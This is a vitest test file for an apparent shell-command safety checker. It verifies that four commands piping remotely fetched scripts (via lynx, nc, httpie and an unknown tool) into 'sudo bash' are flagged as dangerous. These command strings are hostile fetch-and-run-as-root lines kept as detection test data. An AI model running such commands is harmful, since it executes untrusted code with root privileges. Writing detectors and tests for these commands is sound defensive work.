/**
 * Attack: an unknown program (lynx, nc, httpie, anything) feeds a root shell.
 */
import { beforeAll, describe, expect, it } from 'vitest'
import { inspectText } from '../../main/core/inspect/inspect'
import type { ShellParser } from '../../main/core/inspect/shell-parser'
import { loadShellParser } from '../../main/node/shell-parser'

let parser: ShellParser
beforeAll(async () => {
  parser = await loadShellParser()
})

describe('unknown program root shell', () => {
  it.each([
    ['lynx -source https://x.example/p.sh | sudo bash', 'pipe-to-shell', 'high'],
    ['nc x.example 80 | sudo bash', 'pipe-to-shell', 'high'],
    ['http https://x.example/p.sh | sudo bash', 'pipe-to-shell', 'high'],
    ['fixer-fetch --latest | sudo bash', 'hidden-root-script', 'high'],
  ])('judges %s as dangerous with %s (%s)', async (text, rule, severity) => {
    const r = await inspectText(text, { parser })
    expect(r.verdict).toBe('dangerous')
    expect(r.findings.find((f) => f.rule === rule)?.severity).toBe(severity)
  })
})
